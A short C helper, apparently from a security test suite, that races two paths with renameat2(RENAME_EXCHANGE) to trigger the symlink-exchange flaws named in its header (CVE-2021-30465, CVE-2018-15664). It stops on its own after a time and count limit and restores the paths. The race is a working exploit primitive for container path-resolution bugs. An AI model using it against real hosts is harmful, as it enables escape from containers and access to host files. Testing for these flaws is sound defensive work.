/*
 * xchg.c: the symlink-exchange race of the attack suite (CVE-2021-30465,
 * CVE-2018-15664): swaps two paths with renameat2(RENAME_EXCHANGE) as fast
 * as it can, for at most SECONDS seconds and MAX swaps.
 *
 * Usage: xchg A B SECONDS [MAX]
 *
 * Invariants:
 * - It MUST stop by itself (time and count bounded) and leave A and B in
 *   their original places (an even number of swaps).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	unsigned long max, n;
	time_t end;

	if (argc < 4) {
		fprintf(stderr, "usage: xchg A B SECONDS [MAX]\n");
		return 2;
	}
	end = time(NULL) + atoi(argv[3]);
	max = argc > 4 ? strtoul(argv[4], NULL, 10) : 50000000UL;
	for (n = 0; n < max; n++) {
		if ((n & 1023) == 0 && time(NULL) >= end)
			break;
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
			RENAME_EXCHANGE) == -1) {
			perror("renameat2");
			return 1;
		}
	}
	if (n & 1)
		renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
		    RENAME_EXCHANGE);
	printf("%lu\n", n);
	return 0;
}
